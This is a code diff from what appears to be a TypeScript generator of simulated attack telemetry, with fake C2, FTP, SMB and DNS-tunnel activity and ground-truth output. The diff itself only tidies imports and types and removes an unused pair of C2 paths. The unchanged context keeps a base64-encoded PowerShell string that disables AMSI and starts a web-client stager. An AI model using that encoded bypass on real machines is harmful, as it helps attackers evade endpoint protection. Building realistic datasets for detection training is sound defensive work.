@@ -3,12 +3,12 @@
  * main loop runs in time order, plus the ground truth each step produces.
  */
 import type { Ctx } from './ctx.js';
-import { dnsLookup, ephemeral, ftpDenied, ftpSession, smbClose, smbOpen, smbReadFile, tcpSession, type FtpCmd, type SmbSession } from './activities.js';
+import { dnsLookup, ftpDenied, ftpSession, smbClose, smbOpen, smbReadFile, tcpSession, type FtpCmd, type SmbSession } from './activities.js';
 import { pdt, US_PER_MIN, US_PER_S, US_PER_HOUR, isoMicro } from './time.js';
 import type { Rng } from './prng.js';
 import type { Host } from './network.js';
 import { FIREWALL_NAT, GOOGLE_DNS, LEVEL3_DNS } from './network.js';
-import { domainUser, guidFor, rootProc, spawn, systemUser, type Proc, type WinUser } from './winproc.js';
+import { domainUser, rootProc, spawn, type Proc, type WinUser } from './winproc.js';
 import { sec4648 } from './formats/windows.js';
 import { nextRecord } from './ctx.js';
 import { threatLine, panLocation } from './formats/pan.js';
@@ -24,9 +24,8 @@ export interface Transmission {
   stor_events: number; succeeded: number; failed: string[]; bytes_transferred: number; stream_events: number;
 }
 
-export interface AttackTruth {
-  [k: string]: unknown;
-}
+/** The detail sections of truth.json that the attack produces (staging, ftp, dns_tunnel, c2, processes, ...). */
+export type AttackTruth = Record<string, unknown>;
 
 const PS_ENC = 'WwBSAGUAZgBdAC4AQQBTAHMARQBtAGIAbAB5AC4ARwBFAFQAVAB5AFAARQAoACcAUwB5AHMAdABlAG0ALgBNAGEAbgBhAGcAZQBtAGUAbgB0AC4AQQB1AHQAbwBtAGEAdABpAG8AbgAuAEEAbQBzAGkAVQB0AGkAbABzACcAKQB8AD8AewAkAF8AfQB8ACUAewAkAF8ALgBHAEUAdABGAEkARQBMAGQAKAAnAGEAbQBzAGkASQBuAGkAdABGAGEAaQBsAGUAZAAnACwAJwBOAG8AbgBQAHUAYgBsAGkAYwAsAFMAdABhAHQAaQBjACcAKQAuAFMAZQB0AFYAYQBsAHUAZQAoACQAbgB1AGwAbAAsACQAdAByAHUAZQApAH0AOwBbAFMAeQBzAHQAZQBtAC4ATgBlAHQALgBTAGUAcgB2AGkAYwBlAFAAbwBpAG4AdABNAGEAbgBhAGcAZQByAF0AOgA6AEUAeABwAGUAYwB0ADEAMAAwAEMAbwBuAHQAaQBuAHUAZQA9ADAAOwAkAFcAQwA9AE4ARQBXAC0ATwBCAEoARQBDAFQAIABTAFkAUwB0AGUATQAuAE4ARQBUAC4AVwBlAEIAQwBsAGkARQBOAHQAOwAkAHUAPQAnAE0AbwB6AGkAbABsAGEALwA1AC4AMAAgACgAVwBpAG4AZABvAHcAcwAgAE4AVAAgADYALgAxADsAIABXAE8AVwA2ADQAOwAgAFQAcgBpAGQAZQBuAHQALwA3AC4AMAA7ACAAcgB2ADoAMQAxAC4AMAApACAAbABpAGsAZQAgAEcAZQBjAGsAbwAnADsA';
 
@@ -302,10 +301,8 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
       const k = n++;
       at(tt, () => {
         const rr = rng.fork(`c2${h.name}${k}`);
-        const uri = rr.chance(0.5) ? '/login/process.php' : '/admin/get.php';
         tcpSession(ctx, rr, { t: tt, dur: rr.int(150_000, 900_000), src: h.ip, dst: v.c2, dport: 443, bytesToServer: rr.int(600, 1400), bytesToClient: rr.int(300, 2400), app: 'ssl', tls: { sni: v.c2, issuer: v.c2Issuer, subject: v.c2Issuer, version: 'TLSv1.2' }, user: h.kind === 'workstation' ? `frothly\\${h === btun ? uB.account : uK.account}` : `frothly\\${v.serviceAccount}` });
         c2Sessions.set(h.name, (c2Sessions.get(h.name) ?? 0) + 1);
-        void uri;
       });
       t += r.int(8 * US_PER_MIN, 14 * US_PER_MIN);
     }
@@ -474,8 +471,6 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
     truth.hosts = { staging_client: btun.name, second_client: klag.name, tunnel_host: tunnelHost.name, compromised: [btun.name, ...lateral.map((h) => h.name)], denied: denied.map((h) => h.name) };
     return truth;
   };
-  void ephemeral;
-  void guidFor; void systemUser;
   return { steps: steps.sort((a, b) => a.t - b.t), finish };
 }
 
